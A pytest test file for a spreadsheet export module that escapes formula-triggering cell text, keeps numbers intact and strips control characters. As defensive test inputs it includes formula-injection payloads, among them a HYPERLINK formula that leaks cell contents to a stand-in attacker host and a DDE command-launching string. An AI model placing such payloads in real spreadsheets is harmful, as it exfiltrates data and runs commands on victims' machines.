"""The escaping rule of spreadsheet cells (passerelle.core.exports): formulas never start a cell,
numbers stay numbers, and the import gives back exactly what was exported."""
from __future__ import annotations

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st

from passerelle.core.exports import FORMULA_TRIGGERS, render, render_book, restore_cell, safe_cell, safe_dataset


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1,"Xq2")', "+33 4 78 00 00 00", "-2+3",
                                  "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"])
def test_text_that_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, -3, 0, Decimal("-90000"), True, None, datetime.date(2026, 1, 2)])
def test_numbers_dates_and_empty_cells_are_left_as_they_are(value):
    assert safe_cell(value) is value


def test_ordinary_text_and_lazy_translations_are_written_as_text():
    assert safe_cell("Léa Dupont") == "Léa Dupont"
    assert safe_cell(gettext_lazy("Participants")) == "Participants"
    assert safe_cell("'=1") == "''=1"


# Control characters an XLSX file cannot hold (tab, line feed and carriage return it can).
NOT_IN_XML = {chr(c) for c in range(32)} - {"\t", "\n", "\r"}


@given(st.text())
def test_no_escaped_text_starts_with_a_trigger_and_the_import_restores_it(text):
    escaped = safe_cell(text)
    assert not escaped.startswith(FORMULA_TRIGGERS)
    assert not NOT_IN_XML & set(escaped)
    if not NOT_IN_XML & set(text):
        assert restore_cell(escaped) == text


def test_a_control_character_cannot_hide_a_formula_behind_it():
    assert safe_cell("\x01=1+1") == "'=1+1"
    assert safe_cell("\x00\x08@SUM(A1)") == "'@SUM(A1)"


def test_render_escapes_a_table_built_without_the_shared_builder():
    import tablib

    raw = tablib.Dataset(["=1+1", -4, "a\x01b"], headers=["@h", "n", "c"], title="raw")
    text = render(raw, "csv").decode("utf-8-sig")
    assert text.splitlines() == ["'@h,n,c", "'=1+1,-4,ab"]
    for content in (render(raw, "xlsx"), render_book([raw, safe_dataset(["x"], [["+1"]], title="two")])):
        cells = [c for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets
                 for row in sheet.iter_rows() for c in row]
        assert not [c for c in cells if c.data_type == "f"]
        assert {(c.value, c.data_type) for c in cells} >= {("'=1+1", "s"), (-4, "n")}


def test_render_refuses_an_unknown_format():
    with pytest.raises(ValueError):
        render(safe_dataset(["a"], [], title="t"), "ods")
